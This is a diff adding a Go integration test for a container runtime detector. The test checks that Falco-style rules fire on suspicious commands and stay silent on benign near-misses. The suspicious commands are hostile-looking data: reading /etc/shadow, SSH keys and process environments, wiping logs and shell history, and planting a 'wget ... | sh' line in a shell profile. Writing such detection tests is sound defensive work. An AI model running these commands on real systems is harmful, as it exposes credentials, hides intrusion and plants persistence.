@@ -1,0 +1,204 @@
+package detector_test
+
+import (
+	"fmt"
+	"io/fs"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/riposte-sec/riposte/detector"
+	"github.com/riposte-sec/riposte/internal/alert"
+	"github.com/riposte-sec/riposte/internal/testutil"
+	exrules "github.com/riposte-sec/riposte/examples/rules"
+)
+
+// rulesWithAPIServer writes the default rules to a folder with the
+// Kubernetes API server list set to addr, as an operator sets it to the
+// cluster's service IP.
+func rulesWithAPIServer(t *testing.T, addr string) string {
+	t.Helper()
+	dir := t.TempDir()
+	const list = "- list: k8s_api_server_addresses\n  items: [10.96.0.1]"
+	var found bool
+	err := fs.WalkDir(exrules.FS, ".", func(p string, d fs.DirEntry, err error) error {
+		if err != nil || d.IsDir() || !strings.HasSuffix(p, ".yaml") {
+			return err
+		}
+		b, err := fs.ReadFile(exrules.FS, p)
+		if err != nil {
+			return err
+		}
+		s := string(b)
+		if strings.Contains(s, list) {
+			found = true
+			s = strings.Replace(s, list, "- list: k8s_api_server_addresses\n  items: ["+addr+"]", 1)
+		}
+		return os.WriteFile(filepath.Join(dir, filepath.Base(p)), []byte(s), 0o644)
+	})
+	if err != nil {
+		t.Fatalf("copy default rules: %v", err)
+	}
+	if !found {
+		t.Fatal("default rules have no k8s_api_server_addresses list to set")
+	}
+	return dir
+}
+
+// TestFalcoRuleScenarios runs, in one real container, what each of the
+// Falco-counterpart rules must catch and, in another, the benign command
+// nearest to it, which must not alert. Alerts must name the container and
+// the process; processes started by docker exec have the shim as parent.
+func TestFalcoRuleScenarios(t *testing.T) {
+	cli := testutil.DockerClient(t)
+	t.Parallel()
+	testutil.Integration(t, testutil.Root, testutil.BPF, testutil.Docker)
+	pid := os.Getpid()
+	posName, negName := fmt.Sprintf("det-falco-pos-%d", pid), fmt.Sprintf("det-falco-neg-%d", pid)
+	pos, posIP := runOnInternalNetwork(t, cli, posName)
+	neg, negIP := runOnInternalNetwork(t, cli, negName)
+	_, got := startDetector(t, detector.Config{DisableResources: true, Rules: []string{rulesWithAPIServer(t, posIP)}}, cli)
+
+	// connectTo listens on port in the container and connects to it over
+	// the container's own address, as a connection out of it.
+	connectTo := func(ip string, port int) []string {
+		return []string{"sh", "-c", fmt.Sprintf("nc -l -p %d </dev/null >/dev/null 2>&1 & sleep 0.3; nc -w 1 %s %d </dev/null >/dev/null 2>&1; true", port, ip, port)}
+	}
+	const shim = "containerd-shim" // runc's transient processes are skipped
+	tests := []struct {
+		rule   string
+		setup  [][]string // run in both containers first
+		pos    [][]string
+		neg    [][]string
+		fields map[string]string // expected fields of the positive alert; a value starting with * is a suffix
+	}{
+		{rule: "Launch Package Management Process in Container",
+			pos:    [][]string{{"dpkg", "-l"}},
+			neg:    [][]string{{"ls", "/var"}},
+			fields: map[string]string{"proc.name": "dpkg", "proc.pname": shim, "proc.cmdline": "dpkg -l"}},
+		{rule: "Launch Suspicious Network Tool in Container",
+			pos:    [][]string{{"telnet", "127.0.0.1", "1"}},
+			neg:    [][]string{{"ping", "-c", "1", "-W", "1", "127.0.0.1"}},
+			fields: map[string]string{"proc.name": "telnet", "proc.pname": shim}},
+		{rule: "User mgmt binaries",
+			pos:    [][]string{{"passwd", "-l", "root"}},
+			neg:    [][]string{{"id", "-u"}},
+			fields: map[string]string{"proc.name": "passwd", "proc.pname": shim}},
+		{rule: "Detect crypto miners using the Stratum protocol",
+			pos:    [][]string{{"true", "-o", "stratum+tcp://pool.invalid:3333"}},
+			neg:    [][]string{{"true", "-o", "tcp://pool.invalid:3333"}},
+			fields: map[string]string{"proc.name": "true", "proc.cmdline": "true -o stratum+tcp://pool.invalid:3333"}},
+		{rule: "Search Private Keys or Passwords",
+			pos:    [][]string{{"find", "/etc", "-name", "id_rsa"}, {"grep", "-r", "BEGIN RSA PRIVATE", "/etc"}},
+			neg:    [][]string{{"find", "/etc", "-name", "*.conf"}, {"grep", "root", "/etc/passwd"}},
+			fields: map[string]string{"proc.pname": shim}},
+		{rule: "Read ssh information",
+			setup:  [][]string{{"sh", "-c", "mkdir -p /home/eve/.ssh && echo key > /home/eve/.ssh/id_rsa"}},
+			pos:    [][]string{{"cat", "/home/eve/.ssh/id_rsa"}},
+			neg:    [][]string{{"sh", "-c", "echo host >> /home/eve/.ssh/known_hosts"}},
+			fields: map[string]string{"proc.name": "cat", "fd.name": "/home/eve/.ssh/id_rsa"}},
+		{rule: "Read environment variable from /proc files",
+			pos:    [][]string{{"cat", "/proc/1/environ"}},
+			neg:    [][]string{{"cat", "/proc/self/environ"}},
+			fields: map[string]string{"proc.name": "cat", "fd.name": "/proc/1/environ"}},
+		{rule: "Write below etc",
+			pos:    [][]string{{"sh", "-c", "echo x > /etc/evil.conf"}},
+			neg:    [][]string{{"sh", "-c", "cat /etc/passwd >/dev/null; echo x > /tmp/evil.conf"}},
+			fields: map[string]string{"fd.name": "/etc/evil.conf", "proc.name": "sh"}},
+		{rule: "Modify Shell Configuration File",
+			pos:    [][]string{{"sh", "-c", "echo 'wget -q -O- x | sh' >> /root/.profile"}},
+			neg:    [][]string{{"sh", "-c", "echo x >> /root/.profile.bak"}},
+			fields: map[string]string{"fd.name": "/root/.profile"}},
+		{rule: "Schedule Cron Jobs",
+			setup:  [][]string{{"sh", "-c", "echo '* * * * * id' > /tmp/cronfile"}},
+			pos:    [][]string{{"crontab", "/tmp/cronfile"}},
+			neg:    [][]string{{"crontab", "-l"}},
+			fields: map[string]string{"proc.name": "crontab", "proc.pname": shim}},
+		{rule: "Clear Log Activities",
+			setup:  [][]string{{"sh", "-c", "mkdir -p /var/log && echo x >> /var/log/auth.log"}},
+			pos:    [][]string{{"sh", "-c", ": > /var/log/auth.log"}, {"truncate", "-s", "0", "/var/log/auth.log"}},
+			neg:    [][]string{{"sh", "-c", "echo y >> /var/log/auth.log"}},
+			fields: map[string]string{"fd.name": "/var/log/auth.log"}},
+		{rule: "Delete or rename shell history",
+			setup:  [][]string{{"sh", "-c", "echo ls >> /root/.ash_history"}},
+			pos:    [][]string{{"sh", "-c", ": > /root/.ash_history"}, {"rm", "-f", "/root/.ash_history"}},
+			neg:    [][]string{{"sh", "-c", "echo ls >> /root/.ash_history"}, {"rm", "-f", "/tmp/cronfile"}},
+			fields: map[string]string{"fd.name": "/root/.ash_history"}},
+		{rule: "Detect outbound connections to common miner pool ports",
+			pos:    [][]string{connectTo(posIP, 3333)},
+			neg:    [][]string{connectTo(negIP, 8080)},
+			fields: map[string]string{"fd.name": "*->" + posIP + ":3333"}},
+		{rule: "Contact K8S API Server From Container",
+			pos:    [][]string{connectTo(posIP, 6443)},
+			neg:    [][]string{connectTo(negIP, 6443)}, // not the API server's address
+			fields: map[string]string{"fd.name": "*->" + posIP + ":6443"}},
+	}
+	for _, tt := range tests {
+		for _, cmd := range tt.setup {
+			dockerExec(t, cli, pos, false, cmd...)
+			dockerExec(t, cli, neg, false, cmd...)
+		}
+	}
+	for _, tt := range tests {
+		for _, cmd := range tt.neg {
+			dockerExec(t, cli, neg, false, cmd...)
+		}
+	}
+	for _, tt := range tests {
+		for _, cmd := range tt.pos {
+			dockerExec(t, cli, pos, false, cmd...)
+		}
+	}
+	// A marker in the negative container, run last: once its alert is in,
+	// the negatives' events (earlier in the ring buffer) were evaluated.
+	dockerExec(t, cli, neg, false, "cat", "/etc/shadow")
+
+	first := func(id, rule string) *alert.Alert {
+		for _, a := range got.snapshot() {
+			if a.Rule == rule && a.Field("container.id") == id[:12] {
+				return &a
+			}
+		}
+		return nil
+	}
+	deadline := time.Now().Add(10 * time.Second)
+	for {
+		var missing []string
+		for _, tt := range tests {
+			if first(pos, tt.rule) == nil {
+				missing = append(missing, tt.rule)
+			}
+		}
+		if first(neg, "Read sensitive file untrusted") == nil {
+			missing = append(missing, "marker alert of the negative container")
+		}
+		if len(missing) == 0 {
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("missing alerts %q; got %v", missing, ruleNames(got.snapshot()))
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+	for _, tt := range tests {
+		t.Run(tt.rule, func(t *testing.T) {
+			a := first(pos, tt.rule)
+			t.Logf("%s", strings.TrimSpace(a.Output))
+			if c := a.Container(); c.Name != posName || c.Image != "riposte-test" || c.Tag != "1" {
+				t.Errorf("container = %+v, want name %s image riposte-test:1", c, posName)
+			}
+			for f, want := range tt.fields {
+				gotv := a.Field(f)
+				if suffix, ok := strings.CutPrefix(want, "*"); ok && strings.HasSuffix(gotv, suffix) || gotv == want {
+					continue
+				}
+				t.Errorf("%s = %q, want %q", f, gotv, want)
+			}
+			if n := first(neg, tt.rule); n != nil {
+				t.Errorf("benign neighbour in %s alerted: %s", negName, n.Output)
+			}
+		})
+	}
+}
